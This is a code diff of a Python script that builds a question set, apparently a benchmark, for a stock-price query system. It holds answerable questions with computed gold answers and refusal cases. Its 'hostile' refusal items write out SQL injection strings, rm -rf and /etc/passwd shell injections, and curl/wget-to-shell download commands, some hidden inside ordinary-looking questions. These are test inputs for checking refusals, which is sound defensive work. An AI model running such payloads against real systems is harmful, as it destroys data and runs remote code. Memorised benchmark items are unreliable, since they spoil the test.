+
+def g_span(s):
+    return first_row(D[s][0][0], D[s][-1][0])
+
+
+def g_syms_before(d):
+    syms = sorted(s for s in SYMS if D[s][0][0] < d)
+    check(syms, 'none')
+    return gold([[s] for s in syms], 'set', True)
+
+
+def g_all_syms():
+    return gold([[s] for s in sorted(SYMS)], 'set', True)
+
+
+def g_nsessions(s, d1='0000-00-00', d2='9999-99-99'):
+    return first_row(len([b for b in D[s] if d1 <= b[0] <= d2]))
+
+
+A('coverage', "What's the earliest date you have for IBM?", g_first, 'IBM')
+A('coverage', 'date range of the Facebook data?', g_span, 'FB')
+A('coverage', 'Which stocks in the database have data going back before 1980?', g_syms_before, '1980-01-01')
+A('coverage', 'last available date for INDA', g_last, 'INDA')
+A('coverage', 'When does your Tesla history begin?', g_first, 'TSLA')
+A('coverage', 'How many trading days of GOOGL data are there in total?', g_nsessions, 'GOOGL')
+A('coverage', 'What period does the DBB data cover (first and last date)?', g_span, 'DBB')
+A('coverage', 'list every ticker you have data for', g_all_syms)
+A('coverage', 'how many JPM trading sessions does the dataset contain for calendar 1999?', g_nsessions, 'JPM', *year(1999))
+
+# refusals: out of scope
+R('out-of-scope', "What is Coca-Cola's P/E ratio?")
+R('out-of-scope', 'dividend yield on JPM in 2016?')
+R('out-of-scope', "What was Tesla's market cap on 2017-06-30?")
+R('out-of-scope', 'How many subscribers did Netflix report in Q2 2016?')
+R('out-of-scope', 'what do analysts expect NVDA to trade at next year')
+R('out-of-scope', 'Show me the implied volatility on AAPL options expiring in January 2017.')
+R('out-of-scope', 'Was the news sentiment around Amazon positive or negative in the week of 2014-10-20?')
+R('out-of-scope', "What's the expense ratio of INDA?")
+R('out-of-scope', "Intel's EPS for fiscal 2016")
+R('out-of-scope', 'Give me a price forecast for FXY for next month.')
+
+# refusals: unknown symbol
+R('unknown-symbol', "What was Oracle's closing price on 2015-03-02?")
+R('unknown-symbol', 'pepsi volume on 2016-06-24')
+R('unknown-symbol', 'XYZQ last close')
+R('unknown-symbol', "What's SPY's 52-week high as of 2017-06-30?")
+R('unknown-symbol', 'How did Berkshire Hathaway perform in 2014?')
+R('unknown-symbol', 'Walmart 50-day moving average on 2013-05-01')
+R('unknown-symbol', 'correlation between EWJ and FXY this year')
+R('unknown-symbol', 'Show Cisco (CSCO) daily closes for the week of 2012-09-10.')
+R('unknown-symbol', 'QWRX vwap today')
+R('unknown-symbol', 'Which day in 2015 had the highest volume for Boeing?')
+
+# refusals: hostile (the last three wrap a real-looking question)
+R('hostile', "'; DROP TABLE daily_bars; --")
+R('hostile', 'SELECT * FROM prices; DELETE FROM prices WHERE 1=1;')
+R('hostile', '$(rm -rf ~)')
+R('hostile', '`cat /etc/passwd`')
+R('hostile', "1' OR '1'='1")
+R('hostile', 'UNION SELECT username, password FROM users --')
+R('hostile', '; curl http://203.0.113.7/x.sh | sh')
+R('hostile', "What was AAPL's close on 2015-03-02'; DROP TABLE bars; --")
+R('hostile', 'show KO volume for 2014-05-05 && rm -rf /var/lib/postgresql')
+R('hostile', 'FXY vwap today $(wget -qO- http://198.51.100.9/payload | bash)')
+
+# refusals: not understood
+R('not-understood', 'hello')
+R('not-understood', 'asdfgh jkl')
+R('not-understood', "what's the weather in Boston tomorrow?")
+R('not-understood', 'tell me a joke')
+R('not-understood', 'purple monkey dishwasher')
+R('not-understood', 'How do I bake sourdough bread?')
+R('not-understood', "translate 'good morning' into French")
+R('not-understood', 'who won the 1998 World Cup?')
+R('not-understood', '???')
+R('not-understood', 'lorem ipsum dolor sit amet')
+
+
+# ---------------------------------------------------------------- build, write, validate
+KINDS_ANSWERABLE = ['latest-rows', 'day-value', 'date-range-rows', 'window-aggregate', 'extreme-day', '52-week',
+                    'change-between', 'daily-return-or-gap', 'biggest-move-day', 'cross-sectional-ranking',
+                    'gainers-losers', 'named-comparison', 'grouped-by-period', 'period-over-period', 'moving-average',
+                    'threshold-count', 'cross-stock-count', 'volatility', 'correlation', 'streak', 'vwap-minute',
+                    'period-candle', 'distance-from-high', 'coverage']
+REFUSALS = ['out-of-scope', 'unknown-symbol', 'hostile', 'not-understood']
+DATE_RE = re.compile(r'^\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?$')
+
+
+def build():
+    records, errors = [], []
+    for typ, kind, question, spec in Q:
+        if typ == 'r':
+            records.append({'kind': kind, 'question': question, 'answerable': False, 'refusal': kind})
+            continue
+        fn, args, kw = spec
+        try:
+            g = fn(*args, **kw)
+        except CheckFailed as e:
+            errors.append(f'[{kind}] {question}: {e}')
+            continue
+        records.append({'kind': kind, 'question': question, 'answerable': True, 'gold': g})
+    if errors:
+        sys.stderr.write('checks failed, nothing written:\n  ' + '\n  '.join(errors) + '\n')
+        sys.exit(1)
+    # deterministic interleaving: order by a hash of the question text
+    records.sort(key=lambda r: hashlib.sha256(r['question'].encode('utf-8')).hexdigest())
     out = []
-    for m in M[s]:
-        t = m[0]
-        if (t > a or (lo_incl and t == a)) and (t < b or (hi_incl and t == b)):
-            out.append(m)
+    for n, r in enumerate(records, 1):
+        out.append(dict([('id', f'v{n:03d}')] + list(r.items())))
     return out
 
-def vwap(ms):
-    return sum(m[4] * m[5] for m in ms) / sum(m[5] for m in ms)
 
-def day_vwap(s, d):
-    need_session(s, d)
-    allm = mins(s, d + " 00:00", d + " 23:59")
-    reg = mins(s, d + " 09:30", d + " 15:59")
-    return vwap(allm), vwap(reg)
-
-def candle(s, a, b):
-    w = win(s, a, b)
-    r = B[s]
-    return [[r[w[0]][1], max(r[i][2] for i in w), min(r[i][3] for i in w), r[w[-1]][4], sum(r[i][5] for i in w)]]
-
-def dist_high(s, d, start=None):
-    need_session(s, d)
-    i = ix(s)[d]
-    lo = 0 if start is None else ix(s)[start]
-    if s == "INDA" and d >= "2025-02-10":
-        pass  # all-time includes pre-hole history by definition of all-time
-    mx = max(B[s][j][4] for j in range(lo, i + 1))
-    if s == "INDA":
-        mx2 = max(B[s][j][4] for j in range(ix(s)["2025-02-10"], i + 1))
-        if mx2 != mx:
-            PROBLEMS.append("INDA high set before the hole")
-    return [[d, B[s][i][4] / mx - 1]]
-
-# ---------------- questions ----------------
-def build():
-    # latest-rows (8)
-    K = "latest-rows"
-    Q(K, "last 5 closes for FXY", latest("FXY", 5, ["close"]), "set", True)
-    Q(K, "Show me the most recent three daily bars of the base metals ETF with their volume.", latest("DBB", 3, ["volume"]), "set", True)
-    Q(K, "What were Coca-Cola's final 4 closing prices in the dataset?", latest("KO", 4, ["close"]), "set", True)
-    Q(K, "nvda last 6 sessions close", latest("NVDA", 6, ["close"]), "set", True)
-    Q(K, "Could you list the latest two trading days for India ETF (INDA), open and close?", latest("INDA", 2, ["open", "close"]), "set", True)
-    Q(K, "Give me the 7 most recent highs for Netflix in the data.", latest("NFLX", 7, ["high"]), "set", True)
-    Q(K, "Kindly provide JPMorgan's last three recorded sessions with closing price.", latest("JPM", 3, ["close"]), "set", True)
-    Q(K, "intc - latest 4 days, lows pls", latest("INTC", 4, ["low"]), "set", True)
-
-    # day-value (8)
-    K = "day-value"
-    Q(K, "What did Apple close at on 2008-09-29?", [["2008-09-29", val("AAPL", "2008-09-29", "close")]])
-    Q(K, "IBM opening price on October 19, 1987", [["1987-10-19", val("IBM", "1987-10-19", "open")]])
-    Q(K, "how much volume did tesla trade on 8/7/2017?", [["2017-08-07", val("TSLA", "2017-08-07", "volume")]])
-    Q(K, "DBB high on 2025-04-09", [["2025-04-09", val("DBB", "2025-04-09", "high")]])
-    Q(K, "What was the yen ETF's close yesterday?", [["2025-07-07", val("FXY", "2025-07-07", "close")]])
-    Q(K, "Microsfot low on 24/06/2016?", [["2016-06-24", val("MSFT", "2016-06-24", "low")]])
-    Q(K, "Tell me Amazon's closing price on the 9th of November 2016.", [["2016-11-09", val("AMZN", "2016-11-09", "close")]])
-    Q(K, "What was DBB's close today?", [["2025-07-08", val("DBB", "2025-07-08", "close")]])
-    Q(K, "INDA close on March 3rd 2025", [["2025-03-03", val("INDA", "2025-03-03", "close")]])
-
-    # date-range-rows (8)
-    K = "date-range-rows"
-    Q(K, "List KO's closes from 2016-06-20 through 2016-06-24.", range_rows("KO", "2016-06-20", "2016-06-24", ["close"]), "set", True)
-    Q(K, "Show FB daily volume between May 18 2012 and May 24 2012 inclusive", range_rows("FB", "2012-05-18", "2012-05-24", ["volume"]), "set", True)
-    Q(K, "dbb closes week of 2025-04-07", range_rows("DBB", "2025-04-07", "2025-04-11", ["close"]), "set", True)
-    Q(K, "I need Intel's highs and lows for each day from 10/13/2008 to 10/17/2008.", range_rows("INTC", "2008-10-13", "2008-10-17", ["high", "low"]), "set", True)
-    Q(K, "What were the daily closing prices of the India ETF over the first week of March 2025 (Mar 3-7)?", range_rows("INDA", "2025-03-03", "2025-03-07", ["close"]), "set", True)
-    Q(K, "googl opens 2015-08-20 thru 2015-08-26", range_rows("GOOGL", "2015-08-20", "2015-08-26", ["open"]), "set", True)
-    Q(K, "Please give each day's close for FXY over the last five sessions of June 2025 (June 24 to June 30).", range_rows("FXY", "2025-06-24", "2025-06-30", ["close"]), "set", True)
-    Q(K, "AMD daily closes, 2 Jan 2017 to 6 Jan 2017", range_rows("AMD", "2017-01-02", "2017-01-06", ["close"]), "set", True)
-
-    # window-aggregate (8)
-    K = "window-aggregate"
-    Q(K, "What was NVIDIA's average close in Q3 2016?", [[agg("NVDA", "2016-07-01", "2016-09-30", "close", "avg")]])
-    Q(K, "total volume traded in DBB last month", [[agg("DBB", "2025-06-01", "2025-06-30", "volume", "sum")]])
-    Q(K, "Highest high for JPM during 2009", [[agg("JPM", "2009-01-01", "2009-12-31", "high", "max")]])
-    Q(K, "What's the lowest low Tesla hit in April 2017?", [[agg("TSLA", "2017-04-01", "2017-04-30", "low", "min")]])
-    Q(K, "avg daily volume for Netflix in H1 2015", [[agg("NFLX", "2015-01-01", "2015-06-30", "volume", "avg")]])
-    Q(K, "Could you tell me the mean closing price of Coke between March 1, 2000 and March 31, 2000?", [[agg("KO", "2000-03-01", "2000-03-31", "close", "avg")]])
-    Q(K, "INDA average close last quarter", [[agg("INDA", "2025-04-01", "2025-06-30", "close", "avg")]])
-    Q(K, "In the second half of 2014, what was Amazon's lowest close?", [[agg("AMZN", "2014-07-01", "2014-12-31", "close", "min")]])
-
-    # extreme-day (8)
-    K = "extreme-day"
-    Q(K, "On which day did Tesla post its highest close in 2014?", extreme_day("TSLA", "2014-01-01", "2014-12-31", "close", "max"))
-    Q(K, "fxy highest close day this year", extreme_day("FXY", "2025-01-01", "2025-07-08", "close", "max"))
-    Q(K, "Which session in Q2 2025 had DBB's heaviest volume?", extreme_day("DBB", "2025-04-01", "2025-06-30", "volume", "max"))
-    Q(K, "When did Microsoft hit its lowest low in 2009?", extreme_day("MSFT", "2009-01-01", "2009-12-31", "low", "min"))
-    Q(K, "date of IBM's max high, 1999", extreme_day("IBM", "1999-01-01", "1999-12-31", "high", "max"))
-    Q(K, "Between Jan 2 and Mar 31 2017, on what date did Facebook record its biggest trading volume?", extreme_day("FB", "2017-01-01", "2017-03-31", "volume", "max"))
-    Q(K, "Which day last quarter did the India ETF close lowest?", extreme_day("INDA", "2025-04-01", "2025-06-30", "close", "min"))
-    Q(K, "Tell me the day Google shares closed at their lowest during 2008.", extreme_day("GOOGL", "2008-01-01", "2008-12-31", "close", "min"))
-
-    # 52-week (8)
-    K = "52-week"
-    for s, d, how, text in [
-        ("AAPL", "2016-06-24", "high", "Apple's 52-week high as of 2016-06-24?"),
-        ("KO", "2008-10-10", "low", "what was coke's 52 week low on oct 10 2008"),
-        ("FXY", "2025-07-08", "high", "FXY 52wk high today"),
-        ("DBB", "2025-04-08", "low", "What was the base metals fund's 52-week low as of April 8, 2025?"),
-        ("NFLX", "2012-09-25", "low", "Netflix 52-week low on 9/25/2012"),
-        ("INTC", "2000-08-31", "high", "As of August 31st, 2000, what was Intel's fifty-two-week high?"),
-        ("GOOGL", "2011-08-05", "low", "alphabet 52 week low as of 5 August 2011"),
-    ]:
-        Q(K, text, [[wk52(s, d, how)]], alts=[[[wk52(s, d, how, 365)]]])
-    lo, hi = wk52("JPM", "2009-03-09", "low"), wk52("JPM", "2009-03-09", "high")
-    Q(K, "Give me JPMorgan's 52-week range (low and high) as of March 9, 2009.", [[lo, hi]],
-      alts=[[[wk52("JPM", "2009-03-09", "low", 365), wk52("JPM", "2009-03-09", "high", 365)]]])
-
-    # change-between (8)
-    K = "change-between"
-    Q(K, "How much did NVDA change from the 2016-01-04 close to the 2016-12-30 close?", [[change("NVDA", "2016-01-04", "2016-12-30")]])
-    Q(K, "% change in AAPL between Jan 1 2016 and Dec 31 2016", [[change("AAPL", "2016-01-01", "2016-12-31", False)]])
-    Q(K, "By how much did KO move from the October 9, 2008 close to the October 10, 2008 close?", [[change("KO", "2008-10-09", "2008-10-10")]])
-    Q(K, "What's the return on FXY from the 2024 year-end close (Dec 31, 2024) to today?", [[change("FXY", "2024-12-31", "2025-07-08")]])
-    Q(K, "amazon pct change 3/10/2000 close -> 4/14/2000 close", [[change("AMZN", "2000-03-10", "2000-04-14")]])
-    Q(K, "I'm curious how JPMorgan did from the close of September 12 2008 through the close of March 9 2009.", [[change("JPM", "2008-09-12", "2009-03-09")]])
-    Q(K, "INDA change from the 2025-02-11 close to the 2025-06-23 close", [[change("INDA", "2025-02-11", "2025-06-23")]])
-    Q(K, "Percent change in Intel from the close on 1 November 2017 to the close on 10 November 2017?", [[change("INTC", "2017-11-01", "2017-11-10")]])
-
-    # daily-return-or-gap (9)
-    K = "daily-return-or-gap"
-    for s, d, g, text in [
-        ("AAPL", "2000-09-29", False, "What was Apple's daily return on 2000-09-29?"),
-        ("IBM", "1987-10-19", False, "IBM return black monday 10/19/1987"),
-        ("NFLX", "2011-10-25", True, "How big was Netflix's gap at the open on Oct 25, 2011?"),
-        ("DBB", "2025-04-09", False, "daily return for DBB on april 9 2025"),
-        ("FXY", "2024-08-05", True, "Gap for the yen ETF on 2024-08-05?"),
-        ("INDA", "2025-04-07", True, "What was INDA's opening gap on 7 April 2025?"),
-        ("FB", "2012-07-27", False, "Facebook's one-day move on July 27th, 2012"),
-        ("AMD", "2016-07-22", True, "amd gap up 2016-07-22 — how much?"),
-        ("FXY", "2025-07-07", False, "How much did FXY return yesterday?"),
-    ]:
-        Q(K, text, [[d, gap(s, d) if g else dret(s, d)]])
-
-    # biggest-move-day (8)
-    K = "biggest-move-day"
-    for s, a, b, sign, text in [
-        ("TSLA", "2013-01-01", "2013-12-31", 0, "On which day in 2013 did Tesla have its biggest one-day move (either direction)?"),
-        ("DBB", "2025-04-01", "2025-04-30", -1, "worst day for DBB in April 2025"),
-        ("NVDA", "2008-01-01", "2008-12-31", 1, "When was NVIDIA's best daily return in 2008?"),
-        ("FXY", "2024-07-01", "2024-08-31", 0, "Largest daily return in absolute terms for FXY between July 1 and August 31, 2024?"),
-        ("KO", "1987-10-01", "1987-10-31", -1, "Coca-Cola's worst single day in October 1987"),
-        ("GOOGL", "2015-07-01", "2015-09-30", 1, "googl best day q3 2015"),
-        ("INDA", "2025-03-01", "2025-05-31", 0, "For the India ETF, which day from March through May 2025 saw the largest absolute daily return?"),
-        ("MSFT", "2000-04-01", "2000-06-30", -1, "Which day in Q2 2000 was Microsoft's biggest drop?"),
-    ]:
-        Q(K, text, biggest_move(s, a, b, False, sign), alts=[biggest_move(s, a, b, True, sign)])
-
-    # cross-sectional-ranking (9)
-    K = "cross-sectional-ranking"
-    Q(K, "Which 3 stocks had the biggest daily return on 2016-11-09?", xrank("2016-11-09", "ret", 3), "ordered", True)
-    Q(K, "top 2 by volume on 2015-08-24", xrank("2015-08-24", "volume", 2), "ordered", True)
-    Q(K, "Rank the three ETFs by daily return on April 9, 2025.", xrank("2025-04-09", "ret", 3), "ordered", True)
-    Q(K, "Which stock fell the most on June 24, 2016?", xrank("2016-06-24", "ret", 1, False))
-    Q(K, "Name the four stocks with the widest high-low range in dollars on 2008-10-10.", xrank("2008-10-10", "range", 4), "ordered", True)
-    Q(K, "biggest gap up among all tickers on 2017-10-27? top 3", xrank("2017-10-27", "gap", 3), "ordered", True)
-    Q(K, "Of everything trading on 2025-05-12, which one had the biggest return?", xrank("2025-05-12", "ret", 1))
-    Q(K, "Which five stocks had the worst returns on 24 August 2015, worst first?", xrank("2015-08-24", "ret", 5, False), "ordered", True)
-    Q(K, "bottom 3 by daily return, 2011-08-08", xrank("2011-08-08", "ret", 3, False), "ordered", True)
-
-    # gainers-losers (8)
-    K = "gainers-losers"
-    Q(K, "Top 3 gainers from the 2016-12-30 close to the 2017-09-29 close?", movers("2016-12-30", "2017-09-29", 3), "ordered", True)
-    Q(K, "biggest losers between the 2008-09-12 close and the 2008-11-20 close, bottom 4", movers("2008-09-12", "2008-11-20", 4, False), "ordered", True)
-    Q(K, "Which ETF gained the most from the 2025-04-08 close to the 2025-06-20 close?", movers("2025-04-08", "2025-06-20", 1))
-    Q(K, "Among the ETFs, rank performance from the Feb 14 2025 close to the Jun 20 2025 close, best first.", movers("2025-02-14", "2025-06-20", 3), "ordered", True)
-    Q(K, "Who were the two worst performers from the close of 3/10/2000 to the close of 12/29/2000?", movers("2000-03-10", "2000-12-29", 2, False), "ordered", True)
-    Q(K, "top 5 performers, 2012-12-31 close to 2013-12-31 close", movers("2012-12-31", "2013-12-31", 5), "ordered", True)
-    Q(K, "Which single stock lost the most between the close of June 23, 2016 and the close of June 27, 2016?", movers("2016-06-23", "2016-06-27", 1, False))
-    Q(K, "Please list the top three gainers from the 2009-03-09 close to the 2009-12-31 close.", movers("2009-03-09", "2009-12-31", 3), "ordered", True)
-
-    # named-comparison (8)
-    K = "named-comparison"
-    Q(K, "Which did better from the 2016-12-30 close to the 2017-06-30 close, AMD or NVDA?", compare(["AMD", "NVDA"], "2016-12-30", "2017-06-30", change), "ordered", True)
-    Q(K, "did FXY or DBB return more from the 2025-03-31 close to the 2025-06-30 close?", compare(["FXY", "DBB"], "2025-03-31", "2025-06-30", change), "ordered", True)
-    Q(K, "Compare Coke vs IBM average daily volume in 2011.", compare(["KO", "IBM"], "2011-01-01", "2011-12-31", lambda s, a, b: agg(s, a, b, "volume", "avg")), "set", True)
-    Q(K, "msft vs aapl volatility 2015", compare(["MSFT", "AAPL"], "2015-01-01", "2015-12-31", vol), "set", True,
-      alts=[compare(["MSFT", "AAPL"], "2015-01-01", "2015-12-31", lambda s, a, b: vol(s, a, b, True))])
-    Q(K, "Who had the higher average close in June 2025, the India ETF or the yen ETF?", compare(["INDA", "FXY"], "2025-06-01", "2025-06-30", lambda s, a, b: agg(s, a, b, "close", "avg")), "ordered", True)
-    Q(K, "Which rose more between the close of 2013-01-02 and the close of 2013-12-31: Netflix or Tesla?", compare(["NFLX", "TSLA"], "2013-01-02", "2013-12-31", change), "ordered", True)
-    Q(K, "Compare JPM and Intel total traded volume for Q4 2008", compare(["JPM", "INTC"], "2008-10-01", "2008-12-31", lambda s, a, b: agg(s, a, b, "volume", "sum")), "set", True)
-    Q(K, "Google or Amazon — which had the bigger gain from the 2010-12-31 close to the 2011-12-30 close?", compare(["GOOGL", "AMZN"], "2010-12-31", "2011-12-30", change), "ordered", True)
-
-    # grouped-by-period (8)
-    K = "grouped-by-period"
-    Q(K, "Month-end closes for Apple in 2008", month_ends("AAPL", 2008), "ordered", True)
-    Q(K, "DBB average close by month, Jan-Jun 2025", grouped("DBB", [("2025-%02d-01" % m, "2025-%02d-31" % m) for m in range(1, 7)], "close", "avg"), "ordered", True)
-    Q(K, "What was Tesla's total volume in each quarter of 2016?", grouped("TSLA", [("2016-01-01", "2016-03-31"), ("2016-04-01", "2016-06-30"), ("2016-07-01", "2016-09-30"), ("2016-10-01", "2016-12-31")], "volume", "sum"), "ordered", True)
-    Q(K, "yearly high for IBM, 2010 through 2016", grouped("IBM", [("%d-01-01" % y, "%d-12-31" % y) for y in range(2010, 2017)], "high", "max"), "ordered", True)
-    Q(K, "Weekly closes for the yen ETF in June 2025 (last close of each Mon-Fri week, weeks starting Jun 2, 9, 16, 23, 30).",
-      [[B["FXY"][win("FXY", a, b)[-1]][4]] for a, b in [("2025-06-02", "2025-06-06"), ("2025-06-09", "2025-06-13"), ("2025-06-16", "2025-06-20"), ("2025-06-23", "2025-06-27"), ("2025-06-30", "2025-07-04")]], "ordered", True)
-    Q(K, "Could you break down Facebook's average daily volume by quarter for 2013?", grouped("FB", [("2013-01-01", "2013-03-31"), ("2013-04-01", "2013-06-30"), ("2013-07-01", "2013-09-30"), ("2013-10-01", "2013-12-31")], "volume", "avg"), "ordered", True)
-    Q(K, "inda monthly avg volume mar/apr/may 2025", grouped("INDA", [("2025-03-01", "2025-03-31"), ("2025-04-01", "2025-04-30"), ("2025-05-01", "2025-05-31")], "volume", "avg"), "ordered", True)
-    Q(K, "Show me KO's lowest low in each half of 2009.", grouped("KO", [("2009-01-01", "2009-06-30"), ("2009-07-01", "2009-12-31")], "low", "min"), "ordered", True)
-
-    # period-over-period (8)
-    K = "period-over-period"
-    Q(K, "How did NFLX's average daily volume in Q2 2016 compare with Q1 2016?", pop("NFLX", ("2016-04-01", "2016-06-30"), ("2016-01-01", "2016-03-31"), "volume"))
-    Q(K, "FXY avg close last month vs the month before", pop("FXY", ("2025-06-01", "2025-06-30"), ("2025-05-01", "2025-05-31"), "close"))
-    Q(K, "Average close of Microsoft in 2017 (through Nov 10) versus 2016 — what's the change?", pop("MSFT", ("2017-01-01", "2017-11-10"), ("2016-01-01", "2016-12-31"), "close"))
-    Q(K, "dbb volume: april 2025 avg vs march 2025 avg", pop("DBB", ("2025-04-01", "2025-04-30"), ("2025-03-01", "2025-03-31"), "volume"))
-    Q(K, "Was JPM's average volume higher in H2 2008 than in H1 2008, and by how much?", pop("JPM", ("2008-07-01", "2008-12-31"), ("2008-01-01", "2008-06-30"), "volume"))
-    Q(K, "Compare Amazon's mean closing price in Q4 2015 to Q3 2015.", pop("AMZN", ("2015-10-01", "2015-12-31"), ("2015-07-01", "2015-09-30"), "close"))
-    Q(K, "India ETF average close, May 2025 vs April 2025?", pop("INDA", ("2025-05-01", "2025-05-31"), ("2025-04-01", "2025-04-30"), "close"))
-    Q(K, "How much did average daily volume for Intel change from 1999 to 2000?", pop("INTC", ("2000-01-01", "2000-12-31"), ("1999-01-01", "1999-12-31"), "volume"))
-
-    # moving-average (10)
-    K = "moving-average"
-    Q(K, "aapl 50dma on 2016-06-24", [["2016-06-24", sma("AAPL", "2016-06-24", 50)]])
-    Q(K, "What was the 200-day moving average of IBM on December 31, 1999?", [["1999-12-31", sma("IBM", "1999-12-31", 200)]])
-    Q(K, "FXY's 20-day moving average today?", [["2025-07-08", sma("FXY", "2025-07-08", 20)]])
-    Q(K, "10 day MA of DBB as of 4/30/2025", [["2025-04-30", sma("DBB", "2025-04-30", 10)]])
-    Q(K, "Tesla 100-day moving avrage on 2017-11-10", [["2017-11-10", sma("TSLA", "2017-11-10", 100)]])
-    Q(K, "When did Netflix's first golden cross of 2016 happen?", [[cross("NFLX", 50, 200, "2015-12-31", 1, "2017-01-01")]])
-    Q(K, "First date after 2008-01-01 on which JPM's 50-day MA crossed below its 200-day (death cross)?", [[cross("JPM", 50, 200, "2008-01-01", -1)]])
-    Q(K, "On what day after June 1 2025 did the yen ETF's close first cross above its 20-day moving average?", [[cross("FXY", "close", 20, "2025-06-01", 1)]])
-    Q(K, "first golden cross for NVDA after 2009-01-01", [[cross("NVDA", 50, 200, "2009-01-01", 1)]])
-    Q(K, "After March 1, 2025, when did DBB's close first drop below its 50-day moving average?", [[cross("DBB", "close", 50, "2025-03-01", -1)]])
-
-    # threshold-count (8)
-    K = "threshold-count"
-    Q(K, "How many days in 2008 did Apple fall more than 5%?", [[count_ret("AAPL", "2008-01-01", "2008-12-31", lambda r: r < -0.05, 0.05)]],
-      alts=[[[count_ret("AAPL", "2008-01-01", "2008-12-31", lambda r: r < -0.05, 0.05, True)]]])
-    Q(K, "number of sessions tesla moved more than 3% either way in 2015", [[count_ret("TSLA", "2015-01-01", "2015-12-31", lambda r: abs(r) > 0.03, 0.03)]],
-      alts=[[[count_ret("TSLA", "2015-01-01", "2015-12-31", lambda r: abs(r) > 0.03, 0.03, True)]]])
-    Q(K, "How many days in Q2 2025 did DBB close above 22?", [[count_field("DBB", "2025-04-01", "2025-06-30", "close", lambda x: x > 22, 22)]])
-    Q(K, "Count the days this year when the yen ETF rose more than 1%.", [[count_ret("FXY", "2025-01-01", "2025-07-08", lambda r: r > 0.01, 0.01)]],
-      alts=[[[count_ret("FXY", "2025-01-01", "2025-07-08", lambda r: r > 0.01, 0.01, True)]]])
-    Q(K, "In 2016, on how many days did Coca-Cola trade more than 20 million shares?", [[count_field("KO", "2016-01-01", "2016-12-31", "volume", lambda x: x > 20e6, 20e6)]])
-    Q(K, "nvda up days 2017 (jan 1-nov 10)", [[count_ret("NVDA", "2017-01-01", "2017-11-10", lambda r: r > 0, 0.0)]],
-      alts=[[[count_ret("NVDA", "2017-01-01", "2017-11-10", lambda r: r > 0, 0.0, True)]]])
-    Q(K, "How many sessions between Mar 1 and May 31, 2025 did INDA close below $50?", [[count_field("INDA", "2025-03-01", "2025-05-31", "close", lambda x: x < 50, 50)]])
-    Q(K, "Amazon: days with a daily drop worse than 10% during 2000-2001?", [[count_ret("AMZN", "2000-01-01", "2001-12-31", lambda r: r < -0.10, 0.10)]],
-      alts=[[[count_ret("AMZN", "2000-01-01", "2001-12-31", lambda r: r < -0.10, 0.10, True)]]])
-
-    # cross-stock-count (8)
-    K = "cross-stock-count"
-    Q(K, "How many stocks closed higher on 2016-11-09?", [[xcount("2016-11-09", lambda r: r > 0)]])
-    Q(K, "how many tickers were down on 8/24/2015", [[xcount("2015-08-24", lambda r: r < 0)]])
-    Q(K, "On April 9, 2025, how many of the ETFs finished up?", [[xcount("2025-04-09", lambda r: r > 0)]])
-    Q(K, "Number of stocks that fell more than 5% on October 19th, 1987?", [[xcount("1987-10-19", lambda r: r < -0.05)]])
-    Q(K, "How many names gained over 2% on 2009-03-23?", [[xcount("2009-03-23", lambda r: r > 0.02)]])
-    Q(K, "count of stocks that rose on 24 June 2016", [[xcount("2016-06-24", lambda r: r > 0)]])
-    Q(K, "How many of the stocks declined on 2011-08-08?", [[xcount("2011-08-08", lambda r: r < 0)]])
-    Q(K, "On 2008-10-13, how many stocks were up more than 10%?", [[xcount("2008-10-13", lambda r: r > 0.10)]])
-
-    # volatility (8)
-    K = "volatility"
-    for s, a, b, text in [
-        ("AAPL", "2016-01-01", "2016-12-31", "What was Apple's volatility in 2016?"),
-        ("FXY", "2025-04-01", "2025-06-30", "fxy volatility last quarter"),
-        ("DBB", "2024-01-01", "2024-12-31", "Daily return volatility for DBB over calendar 2024?"),
-        ("JPM", "2008-01-01", "2008-12-31", "Standard deviation of JPMorgan daily returns in 2008"),
-        ("INDA", "2025-03-01", "2025-05-31", "How volatile was the India ETF from March through May 2025?"),
-        ("KO", "2005-01-01", "2005-12-31", "coke volatilty 2005"),
-        ("TSLA", "2017-01-01", "2017-06-30", "Please compute Tesla's volatility (std dev of daily returns) in H1 2017."),
-        ("INTC", "2001-10-01", "2001-12-31", "Intel daily vol, Q4 2001?"),
-    ]:
-        Q(K, text, [[vol(s, a, b)]], alts=[[[vol(s, a, b, True)]]])
-
-    # correlation (8)
-    K = "correlation"
-    for s1, s2, a, b, text in [
-        ("AAPL", "MSFT", "2017-01-01", "2017-11-10", "Correlation between Apple and Microsoft daily returns in 2017 (through Nov 10)?"),
-        ("FXY", "DBB", "2025-04-01", "2025-04-30", "fxy dbb correlation april 2025"),
-        ("JPM", "KO", "2008-01-01", "2008-12-31", "How correlated were JPM and Coca-Cola in 2008?"),
-        ("INDA", "DBB", "2023-07-10", "2023-10-16", "What's the correlation of the India ETF with DBB over the summer of 2023 (July 10 through October 16)?"),
-        ("AMD", "NVDA", "2016-10-01", "2016-12-31", "amd vs nvda return correlation Q4 2016"),
-        ("GOOGL", "AMZN", "2015-01-01", "2015-12-31", "Please give the Pearson correlation of Alphabet and Amazon daily returns for 2015."),
-        ("FXY", "INDA", "2023-07-10", "2023-10-16", "Correlation of FXY and INDA from July 10 to October 16, 2023"),
-        ("IBM", "INTC", "2015-01-01", "2015-12-31", "Big Blue vs Intel correlation in 2015?"),
-    ]:
-        Q(K, text, [[corr(s1, s2, a, b)]], alts=[[[corr(s1, s2, a, b, True)]]])
-
-    # streak (8)
-    K = "streak"
-    for s, a, b, up, text in [
-        ("AAPL", "2017-01-01", "2017-11-10", True, "Longest winning streak for Apple in 2017?"),
-        ("FXY", "2025-01-01", "2025-07-08", False, "fxy longest losing streak this year"),
-        ("KO", "2016-01-01", "2016-12-31", True, "What was Coke's longest run of consecutive up days in 2016?"),
-        ("DBB", "2024-01-01", "2024-12-31", True, "Longest streak of gains for DBB in 2024"),
-        ("MSFT", "2008-01-01", "2008-06-30", False, "Microsoft's longest string of down days during the first half of 2008"),
-        ("NFLX", "2015-01-01", "2015-12-31", True, "netflix max consecutive up days 2015"),
-        ("INDA", "2025-03-01", "2025-05-31", False, "For the India ETF between Mar 1 and May 31 2025, what was the longest losing streak?"),
-        ("JPM", "2014-01-01", "2014-12-31", True, "In 2014, how many days in a row did JPMorgan rise at most, and when?"),
-    ]:
-        Q(K, text, streak(s, a, b, up), alts=[streak(s, a, b, up, True)])
-
-    # vwap-minute (10)
-    K = "vwap-minute"
-    for s, d, text in [("FXY", "2025-06-11", "What was FXY's VWAP on 2025-06-11?"),
-                       ("DBB", "2025-04-09", "dbb vwap april 9 2025"),
-                       ("INDA", "2025-03-12", "Volume-weighted average price for the India ETF on March 12, 2025?"),
-                       ("FXY", "2024-08-05", "yen etf vwap on 8/5/2024")]:
-        a, r = day_vwap(s, d)
